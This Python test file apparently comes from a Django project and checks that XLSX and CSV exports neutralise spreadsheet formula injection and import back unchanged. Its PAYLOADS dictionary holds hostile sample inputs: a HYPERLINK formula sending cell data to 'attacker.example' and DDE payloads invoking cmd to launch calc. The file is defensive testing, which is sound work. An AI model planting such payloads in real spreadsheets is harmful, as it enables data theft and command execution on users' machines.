"""No spreadsheet export carries a live formula: a cell that starts with =, +, -, @, a tab or a carriage return is
written as text (XLSX: a string cell with Excel's quote prefix; CSV: behind an apostrophe), and importing the
export gives back the text as it was."""

import csv
import io
import zipfile

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from egide.actors import exporter, services
from egide.actors.data import CitationData
from egide.actors.documents import read_map_file
from egide.actors.importer import country_map_import
from egide.actors.models import Actor, Citation, Relationship, Source
from egide.actors.tabular import escape_formula, unescape_formula, write_csv, write_xlsx
from tests.conftest import SmallMap

PAYLOADS = {
    "=": '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
PREFIXES = list(PAYLOADS)


@pytest.fixture
def poisoned(small_map: SmallMap) -> SmallMap:
    """Every free-text column of every table starts with a formula prefix. The services trim tabs and line breaks
    at the edges, so those payloads are written to the table directly, as another channel or an older version
    could have left them."""
    actors = [small_map.police, small_map.interior, small_map.army, small_map.parliament, small_map.newspaper]
    for actor, (prefix, payload) in zip(actors, PAYLOADS.items(), strict=False):
        Actor.objects.filter(pk=actor.pk).update(
            name_en=payload, name_fr=payload, acronym_en=f"{prefix}AC", mandate_text=payload, notes=f"{prefix}notes"
        )
    Actor.objects.filter(pk=small_map.presidency.pk).update(mandate_reference=PAYLOADS["\r"])
    for relationship, payload in zip(
        (small_map.commands, small_map.administers, small_map.oversees), PREFIXES, strict=False
    ):
        Relationship.objects.filter(pk=relationship.pk).update(legal_basis=PAYLOADS[payload], notes=PAYLOADS[payload])
    for prefix, payload in PAYLOADS.items():
        source = services.source_get_or_create(
            user=None, country="CF", citation=CitationData(title=f"title {ord(prefix)}", author="x")
        )
        Source.objects.filter(pk=source.pk).update(title=payload, author=payload)
        citation = services.citation_add(user=None, source=source, actor=small_map.police, locator=str(ord(prefix)))
        Citation.objects.filter(pk=citation.pk).update(locator=f"{prefix}locator")
    return small_map


def _xml(text: str) -> str:
    """The text as it reads back from the workbook: openpyxl writes through lxml (a dependency of the platform),
    which keeps a carriage return as a character reference, so the text comes back whole."""
    return text


def _xlsx_cells(content: bytes) -> list[tuple[str, str, object, str, bool]]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.coordinate, cell.value, cell.data_type, bool(cell.quotePrefix))
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def _csv_cells(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            cell
            for name in archive.namelist()
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""))
            for cell in row
        ]


def _assert_xlsx_safe(content: bytes) -> None:
    cells = _xlsx_cells(content)
    assert [cell for cell in cells if cell[3] == "f"] == []
    risky = [cell for cell in cells if isinstance(cell[2], str) and cell[2][:1] in PAYLOADS]
    for _sheet, _coordinate, _value, data_type, quoted in risky:
        assert data_type == "s"
        assert quoted


def _assert_csv_safe(content: bytes) -> None:
    assert [cell for cell in _csv_cells(content) if cell[:1] in PAYLOADS] == []


# --- The writers -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES)
def test_the_xlsx_writer_stores_no_formula(prefix: str) -> None:
    content = write_xlsx({"actors": (("reference", "notes"), [["A", PAYLOADS[prefix]], ["B", f"{prefix}x"]])})
    cells = {cell[1]: cell[2:] for cell in _xlsx_cells(content)}
    # The text itself is kept, as a string cell that Excel shows and edits as text.
    assert cells["B2"] == (_xml(PAYLOADS[prefix]), "s", True)
    assert cells["B3"] == (_xml(f"{prefix}x"), "s", True)
    assert cells["A2"] == ("A", "s", False)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("prefix", PREFIXES)
def test_the_csv_writer_puts_an_apostrophe_before_a_formula(prefix: str) -> None:
    content = write_csv(("reference", "notes"), [["A", PAYLOADS[prefix]]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows == [["reference", "notes"], ["A", "'" + PAYLOADS[prefix]]]


def test_numbers_stay_numbers() -> None:
    for number in ("-5", "+3", "-0.25", "1e-3", "-1E+4", "2017-05", "0"):
        assert escape_formula(number) == number
    content = write_csv(("reference", "notes"), [["A", "-12.5"], ["B", 7], ["C", -3]])
    assert content.decode("utf-8-sig").splitlines()[1:] == ["A,-12.5", "B,7", "C,-3"]
    cells = {coordinate: value for _s, coordinate, value, _t, _q in _xlsx_cells(write_xlsx({"t": (("a",), [["-4"]])}))}
    assert cells["A2"] == "-4"


def test_the_importer_removes_only_the_apostrophe_the_export_added() -> None:
    for prefix, payload in PAYLOADS.items():
        assert unescape_formula(escape_formula(payload)) == payload
        assert unescape_formula(f"'{prefix}") == prefix
    assert unescape_formula("'quoted'") == "'quoted'"
    assert unescape_formula("l'armée") == "l'armée"
    assert escape_formula("plain") == "plain"


# --- Every exporter --------------------------------------------------------------------------------------------------


def test_the_xlsx_export_holds_no_formula(member_client: Client, poisoned: SmallMap) -> None:
    response = member_client.get(reverse("country-export", kwargs={"code": "CF", "fmt": "xlsx"}))
    assert response.status_code == 200
    _assert_xlsx_safe(response.content)
    values = {value for _s, _c, value, _t, _q in _xlsx_cells(response.content)}
    # Every payload is there, as text, in each of the three sheets' columns.
    assert {_xml(payload) for payload in PAYLOADS.values()} <= values
    assert {f"{prefix}notes" for prefix in PREFIXES[:5]} <= values
    assert {_xml(f"{prefix}locator") for prefix in PREFIXES} <= values


def test_the_csv_export_holds_no_formula(member_client: Client, poisoned: SmallMap) -> None:
    response = member_client.get(reverse("country-export", kwargs={"code": "CF", "fmt": "csv"}))
    assert response.status_code == 200
    _assert_csv_safe(response.content)
    cells = set(_csv_cells(response.content))
    assert {"'" + payload for payload in PAYLOADS.values()} <= cells
    assert {f"'{prefix}locator" for prefix in PREFIXES} <= cells


def test_the_command_line_export_holds_no_formula(poisoned: SmallMap, tmp_path: object) -> None:
    from pathlib import Path

    from django.core.management import call_command

    assert isinstance(tmp_path, Path)
    call_command("actors", "export", "--country", "CF", "--format", "xlsx", "-o", str(tmp_path / "map.xlsx"))
    call_command("actors", "export", "--country", "CF", "--format", "csv", "-o", str(tmp_path / "map.zip"))
    _assert_xlsx_safe((tmp_path / "map.xlsx").read_bytes())
    _assert_csv_safe((tmp_path / "map.zip").read_bytes())


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_templates_hold_no_formula(member_client: Client, db: None, fmt: str) -> None:
    response = member_client.get(reverse("import-template", kwargs={"fmt": fmt}))
    assert response.status_code == 200
    if fmt == "xlsx":
        _assert_xlsx_safe(response.content)
    else:
        _assert_csv_safe(response.content)


def _one_line_fields_without_control_characters() -> None:
    """Tabs and line breaks belong in free text only (notes, mandates, legal bases): the importer refuses them in
    one-line fields, so a map that can be imported back has them nowhere else."""
    for prefix in ("\t", "\r"):
        payload, clean = PAYLOADS[prefix], PAYLOADS[prefix].lstrip()
        Actor.objects.filter(name_en=payload).update(name_en=clean, name_fr=clean, acronym_en="=AC")
        Actor.objects.filter(mandate_reference=payload).update(mandate_reference=clean)
        Actor.objects.filter(acronym_en=f"{prefix}AC").update(acronym_en=f"+{prefix.strip()}AC")
        Actor.objects.filter(notes=f"{prefix}notes").update(notes=f"{prefix}notes")
        Source.objects.filter(title=payload).update(title=f"{clean} {ord(prefix)}", author=clean)
        Citation.objects.filter(locator=f"{prefix}locator").update(locator=f"-{ord(prefix)}locator")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_imports_back_with_its_text_unchanged(member: object, poisoned: SmallMap, fmt: str) -> None:
    _one_line_fields_without_control_characters()
    content = exporter.export_map(user=member, country="CF", fmt=fmt)  # type: ignore[arg-type]
    tables = read_map_file(content, filename=f"map.{exporter.EXTENSIONS[fmt]}")
    police = next(row for row in tables.actors if row.get("reference") == "POL")
    assert police.values["name_en"] == PAYLOADS["="]
    assert police.values["notes"] == "=notes"
    locators = {row.values["locator"] for row in tables.citations}
    assert {"=locator", "+locator", "-locator", "@locator", "-9locator", "-13locator"} <= locators
    report = country_map_import(user=None, country="CD", tables=tables)
    assert report.actors_created == 7
    copied = Actor.objects.get(country="CD", reference="POL")
    assert copied.name_en == PAYLOADS["="]
    assert copied.acronym_en == "=AC"
    assert Actor.objects.get(country="CD", reference="MOI").mandate_text == PAYLOADS["+"]
